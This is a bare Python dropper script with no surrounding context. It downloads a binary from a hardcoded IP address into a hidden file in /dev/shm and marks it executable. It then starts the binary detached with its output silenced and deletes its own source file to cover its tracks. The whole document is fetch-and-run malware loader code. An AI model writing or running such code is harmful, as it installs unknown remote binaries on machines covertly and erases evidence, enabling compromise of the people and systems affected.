import os
import stat
import subprocess
import urllib.request

URL = "http://203.0.113.55/bins/agent"
DST = "/dev/shm/.agent"

urllib.request.urlretrieve(URL, DST)
os.chmod(DST, os.stat(DST).st_mode | stat.S_IEXEC)
subprocess.Popen([DST, "--quiet"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                 preexec_fn=os.setsid, close_fds=True)
os.remove(__file__)
